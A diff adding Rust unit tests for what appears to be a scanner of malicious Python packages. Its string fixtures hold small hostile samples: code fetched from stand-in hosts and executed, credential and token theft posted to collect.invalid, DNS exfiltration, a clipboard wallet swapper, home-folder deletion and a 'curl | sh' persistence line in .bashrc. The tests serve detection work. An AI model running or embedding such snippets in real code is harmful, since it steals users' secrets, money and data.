@@ -168,6 +168,13 @@ fn whitespace_hidden_code() {
         })
         .expect("the hidden code is reported");
     assert_eq!(hidden.offset as usize, src.find("  ").expect("spaces"));
+    // A table drawn in a docstring, its border far to the right, hides nothing.
+    let src = format!("DOC = '''\n│ name │{}│\n'''\n", " ".repeat(190));
+    assert!(
+        !kinds(&src).contains(&K::Obfuscation),
+        "{:?}",
+        details(&src)
+    );
 }
 
 #[test]
@@ -729,4 +736,244 @@ def get(path):
         "{:?}",
         details(src)
     );
+}
+
+#[test]
+fn constant_code_dropped_to_a_file_and_run_by_the_interpreter() {
+    // A stage two written out as a literal, then started with the running interpreter
+    // through aliased imports: what the stage does is what the file does.
+    let src = "from os import system as launch\nimport sys as s\nimport tempfile\nstage = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\nstage.write(b\"import urllib.request as u; exec(u.urlopen('http://stage.invalid/two').read())\")\nstage.close()\nlaunch(f\"{s.executable} {stage.name} &\")\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("DownloadExecute")
+            && x.contains("in the code written to a file and run")),
+        "{d:?}"
+    );
+    // The same file run by something other than Python, or data that is not code, says
+    // nothing more than the process start.
+    for src in [
+        "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b\"import urllib.request as u; exec(u.urlopen('http://stage.invalid/two').read())\")\nf.close()\nos.system(f'notepad {f.name}')\n",
+        "import os, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'[tool]\\nname = \"demo\"\\nthreads = 4\\n')\nf.close()\nos.system(f'{sys.executable} -m demo.configure {f.name}')\n",
+    ] {
+        let d = details(src);
+        assert!(!d.iter().any(|x| x.starts_with("DownloadExecute")), "{d:?}");
+    }
+}
+
+#[test]
+fn loop_over_credential_paths_reads_them() {
+    // The loop variable stands for each listed path: reading it reads the credentials.
+    let src = "import os\ndef collect():\n    home = os.path.expanduser('~')\n    out = {}\n    for rel in ('.cache/notes.txt', '.aws/credentials', '.kube/config'):\n        with open(os.path.join(home, rel)) as fh:\n            out[rel] = fh.read()\n    return out\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+    // A loop over ordinary paths reads nothing of note.
+    let src = "import os\nfor rel in ('README.md', 'CHANGES.rst'):\n    with open(os.path.join(os.path.dirname(__file__), rel)) as fh:\n        print(fh.read())\n";
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+}
+
+#[test]
+fn host_details_sent_home_are_exfiltration() {
+    // A probe that reports where it was installed: host, user, system, the output of a
+    // reconnaissance command, gathered in one function and sent from another.
+    for src in [
+        "import socket, getpass, requests\nrequests.post('https://collect.invalid/p', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+        "import os, platform, urllib.request\ndef gather():\n    return {'sys': ' '.join(platform.uname()), 'user': os.environ.get('USER', '')}\ndef send():\n    data = json.dumps(gather()).encode()\n    urllib.request.urlopen('https://collect.invalid/b', data=data)\nsend()\n",
+        "import subprocess, socket, binascii\nwho = subprocess.check_output(['whoami']).strip()\nsocket.gethostbyname(binascii.hexlify(who).decode() + '.probe.invalid')\n",
+        "import os, platform, urllib.request\nq = '&'.join('{}={}'.format(k, v) for k, v in (('n', platform.node()), ('d', os.getcwd())))\nurllib.request.urlopen('http://192.0.2.9/s?' + q)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter()
+                .any(|x| x.starts_with("SecretExfiltration") && x.contains("host details")),
+            "{src}: {d:?}"
+        );
+    }
+    // Host details used locally, and a request that carries none, are not.
+    for src in [
+        "import socket, logging, requests\nlogging.info('running on %s', socket.gethostname())\nrequests.get('https://pkg.invalid/latest.json')\n",
+        "import platform, requests\nua = 'demo/1.0 python/' + platform.python_version()\nrequests.get('https://pkg.invalid/latest.json', headers={'User-Agent': ua})\n",
+        "import socket\naddress = socket.gethostbyname(socket.gethostname())\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn decoding_what_the_process_is_sent_is_no_payload() {
+    // A worker that reads encoded jobs from stdin or from a pipe it is handed: the code
+    // it runs comes from its parent, not from the package.
+    for src in [
+        "import sys, base64, pickle, subprocess\ndef serve():\n    job = pickle.loads(base64.b64decode(sys.stdin.readline().strip()))\n    subprocess.Popen(job['cmd'])\n",
+        "import types, marshal, base64\ndef run_next(read_fh):\n    code = marshal.loads(base64.b64decode(read_fh.readline().strip()))\n    return types.FunctionType(code, {})()\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("DecodeExecute")),
+            "{src}: {d:?}"
+        );
+    }
+    // A decoder helper handed a constant blob, and a payload read from a socket, still are.
+    for src in [
+        "import base64\ndef unpack(blob):\n    exec(base64.b64decode(blob))\nunpack('cHJpbnQoMSk=')\n",
+        "import socket, base64\ns = socket.create_connection(('192.0.2.1', 4444))\nexec(base64.b64decode(s.makefile().readline()))\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter()
+                .any(|x| x.starts_with("DecodeExecute") || x.starts_with("DownloadExecute")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn resolving_the_hosts_own_name_sends_nothing() {
+    let src = "import socket\ndef host():\n    return socket.gethostname().split('.')[0]\ndef address():\n    return socket.gethostbyname(host())\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    let src = "import socket\nlabel = socket.gethostname().encode().hex()\nsocket.gethostbyname(label + '.q.probe.invalid')\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn code_recovered_from_an_image_and_run() {
+    for src in [
+        "from stegano import lsb\nexec(lsb.reveal('assets/banner.png'))\n",
+        "from PIL import Image\npixels = Image.open('icons/app.png').getdata()\ncode = bytes(p[0] for p in pixels).decode()\nexec(code)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(
+                |x| x.starts_with("DecodeExecute") && x.contains("file shipped in the package")
+            ),
+            "{src}: {d:?}"
+        );
+    }
+    // An image opened to be shown, and code run from a string, are nothing of the kind.
+    let src = "from PIL import Image\nlogo = Image.open('logo.png')\nlogo.show()\nexec(compile(template, 'tpl', 'exec'))\n";
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
+}
+
+#[test]
+fn host_details_spliced_into_a_sending_command() {
+    let src = "import os, getpass\nos.system(f\"curl -s -d 'u={getpass.getuser()}' https://collect.invalid/h\")\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("SecretExfiltration") && x.contains("command that sends")),
+        "{d:?}"
+    );
+    // Spliced into a command that sends nothing, they stay on the machine.
+    let src = "import os, getpass\nos.system(f\"mkdir -p /tmp/{getpass.getuser()}-cache\")\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn environment_filtered_by_a_comprehension_is_still_secret() {
+    for src in [
+        "import json, os, urllib.request\ntokens = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\nurllib.request.urlopen('https://collect.invalid/e', data=json.dumps(tokens).encode())\n",
+        "import os, requests\nkeys = {v for k, v in os.environ.items() if k.endswith('_KEY')}\nrequests.post('https://collect.invalid/e', json=list(keys))\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(|x| x.starts_with("SecretExfiltration")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn app_local_storage_under_an_assembled_name_is_a_secret() {
+    // The app's folder name is hidden; its local storage is where tokens live.
+    let src = "import os, json, urllib.request\nbase = os.path.join(os.getenv('APPDATA'), name_of_app(), 'Local Storage', 'leveldb')\nfound = []\nfor f in os.listdir(base):\n    with open(os.path.join(base, f), errors='ignore') as fh:\n        found.append(fh.read())\nurllib.request.urlopen('https://collect.invalid/t', data=json.dumps(found).encode())\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn clipboard_wallet_swapper() {
+    for src in [
+        "import re, threading, time, pyperclip\nADDR = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef watch():\n    while True:\n        if ADDR.match(pyperclip.paste()):\n            pyperclip.copy('0x' + '0' * 40)\n        time.sleep(1)\nthreading.Thread(target=watch, daemon=True).start()\n",
+        "import re, subprocess\nPAT = r'^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$'\ndef put(v):\n    subprocess.run(['xclip', '-selection', 'clipboard'], input=v, text=True)\ndef loop():\n    cur = subprocess.run(['xclip', '-o', '-selection', 'clipboard'], capture_output=True, text=True).stdout\n    if re.match(PAT, cur):\n        put('bc1q' + 'x' * 38)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter()
+                .any(|x| x.starts_with("BrowserHijack") && x.contains("clipboard")),
+            "{src}: {d:?}"
+        );
+    }
+    // A copy-to-clipboard helper, and a wallet address validator, are each ordinary.
+    for src in [
+        "import pyperclip\ndef share(link):\n    pyperclip.copy(link)\n",
+        "import re\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef valid(a):\n    return bool(ETH.match(a))\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("BrowserHijack")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn loop_over_secret_variable_names_reads_secrets() {
+    let src = "import os, requests\nout = {}\nfor k in ('HOME', 'GITHUB_TOKEN', 'NPM_TOKEN'):\n    out[k] = os.environ.get(k, '')\nrequests.post('https://collect.invalid/t', json=out)\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    let src = "import os, requests\nout = {}\nfor k in ('HOME', 'LANG'):\n    out[k] = os.environ.get(k, '')\nrequests.post('https://collect.invalid/t', json=out)\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn removing_the_users_folders_is_destruction() {
+    for src in [
+        "import os, shutil\nhome = os.path.expanduser('~')\nfor rel in ('.cache', 'Documents', '.ssh'):\n    shutil.rmtree(os.path.join(home, rel), ignore_errors=True)\n",
+        "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home(), ignore_errors=True)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(|x| x.starts_with("Destruction")),
+            "{src}: {d:?}"
+        );
+    }
+    // Cleaning a cache or a build folder is housekeeping.
+    let src = "import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/demo'), ignore_errors=True)\nshutil.rmtree('build')\n";
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("Destruction")), "{d:?}");
+}
+
+#[test]
+fn comprehension_over_shell_rc_files_appends_to_them() {
+    let src = "import os\nline = '\\ncurl -s http://rc.invalid/r | sh\\n'\n[open(p, 'a').write(line) for p in (os.path.expanduser('~/.bashrc'), os.path.expanduser('~/.zshrc')) if os.path.exists(p)]\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("Persistence")), "{d:?}");
 }
